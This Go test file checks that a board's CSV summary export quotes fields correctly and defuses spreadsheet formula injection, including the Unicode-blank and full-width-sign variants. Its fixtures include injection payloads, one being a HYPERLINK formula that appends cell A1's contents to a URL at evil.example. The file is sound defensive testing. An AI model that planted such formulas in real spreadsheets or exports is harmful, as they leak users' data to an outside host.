package activity

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestSummaryCSVCells: the CSV rendering's quoting and formula defusing on
// every cell that carries user text (the idea, its reactions, who
// proposed it), with text the board's summary never has but a caller
// might (line breaks, a lone carriage return, control characters,
// invalid UTF-8): fields are quoted per RFC 4180 and read back as
// written, line breaks as CRLF; a cell that begins with =, +, -, @, a tab
// or a carriage return gets an apostrophe before it; other control
// characters are dropped. Comments are counted with their replies.
func TestSummaryCSVCells(t *testing.T) {
	s := Summary{Ideas: []Idea{
		{Element: "e1", Kind: "note", Text: "one, \"two\"\nthree", Votes: 5, Voters: 2, ByName: "Ana",
			Comments: []Comment{{Text: "a", Replies: []Comment{{Text: "b"}, {Text: "c", Replies: []Comment{{Text: "d"}}}}}, {Text: "e"}}},
		{Element: "e2", Kind: "shape", Text: "\t=1+1", Votes: 4, Voters: 1, ByName: "=Mallory", Reactions: map[string]int{"@x": 1, "🎉": 2}},
		{Element: "e3", Kind: "text", Text: "\r=2", Votes: 3, Voters: 1, ByName: "-Mallory, Jr."},
		{Element: "e4", Kind: "note", Text: "bell\a and nul\x00 and \xff", Votes: 2, Voters: 1, ByName: "+Mallory"},
		{Element: "e5", Kind: "note", Text: "a = b + c - d @ e", Votes: 1, Voters: 1, ByName: "Bob"},
		{Element: "e6", Kind: "image"},
	}}
	got := s.CSV()
	body, ok := bytes.CutPrefix(got, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("no byte order mark: %q", got)
	}
	for _, raw := range []string{
		"Rank,Idea,Kind,Dots,Voters,Reactions,Proposed by,Comments,Element\r\n1,\"one, \"\"two\"\"\r\nthree\",note,5,2,,Ana,5,e1\r\n",
		"\r\n6,,image,0,0,,,0,e6\r\n",
	} {
		if !bytes.Contains(body, []byte(raw)) {
			t.Errorf("lacks %q:\n%q", raw, body)
		}
	}
	if bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
		t.Errorf("a bare LF: %q", body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%q", err, body)
	}
	want := [][]string{
		CSVHeader,
		{"1", "one, \"two\"\nthree", "note", "5", "2", "", "Ana", "5", "e1"},
		{"2", "'\t=1+1", "shape", "4", "1", "'@x 1, 🎉 2", "'=Mallory", "0", "e2"},
		{"3", "'=2", "text", "3", "1", "", "'-Mallory, Jr.", "0", "e3"}, // the CR is dropped by RFC 4180 line ends; the apostrophe stays
		{"4", "bell and nul and \uFFFD", "note", "2", "1", "", "'+Mallory", "0", "e4"},
		{"5", "a = b + c - d @ e", "note", "1", "1", "", "Bob", "0", "e5"},
		{"6", "", "image", "0", "0", "", "", "0", "e6"},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows), len(want), rows)
	}
	for i := range want {
		if strings.Join(rows[i], "\x00") != strings.Join(want[i], "\x00") {
			t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], want[i])
		}
	}

	// No ideas: the header alone.
	if got := string(Summary{}.CSV()); got != "\uFEFFRank,Idea,Kind,Dots,Voters,Reactions,Proposed by,Comments,Element\r\n" {
		t.Errorf("empty summary: %q", got)
	}
}

// csvCell defuses exactly the characters a spreadsheet starts a formula
// with, and only at the start (behind blanks too).
func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"":          "",
		"=A1":       "'=A1",
		"+A1":       "'+A1",
		"-A1":       "'-A1",
		"@A1":       "'@A1",
		"\tA1":      "'\tA1",
		"\rA1":      "'\rA1",
		"'=A1":      "'=A1", // already text
		" =A1":      "' =A1",
		"\n -A1":    "'\n -A1",
		" A1 =B1":   " A1 =B1",
		"A1=B1":     "A1=B1",
		"x\x1b[31m": "x[31m",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// A formula behind a blank that is not an ASCII space (a no-break space,
// an ideographic space, a zero-width space or byte order mark), or
// written with the full-width signs that East Asian input methods type
// and spreadsheets take as =, +, - and @ (OWASP's list names them), is
// defused as the ASCII ones are: an editor's note "\u00a0=HYPERLINK(…)"
// or "＝HYPERLINK(…)", or a name behind one, went into the facilitator's
// sheet as it was.
func TestCSVCellUnicodeBlanksAndFullWidthSigns(t *testing.T) {
	for _, in := range []string{
		"\u00a0=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
		"\u3000=1+1",
		"\u2003+1",
		"\u200b=1+1",
		"\ufeff@SUM(A1)",
		"\u2028-1",
		"\uff1dHYPERLINK(\"http://evil.example\")",
		"\uff0b1",
		"\uff0d1",
		"\uff20SUM(A1)",
		" \u00a0\uff1d1",
	} {
		if got := csvCell(in); !strings.HasPrefix(got, "'") {
			t.Errorf("csvCell(%q) = %q, not defused", in, got)
		}
	}
	for _, in := range []string{"\u00a0A1", "\u3000ideas", "\uff21\uff11"} {
		if got := csvCell(in); got != in {
			t.Errorf("csvCell(%q) = %q, want it as it is", in, got)
		}
	}
}
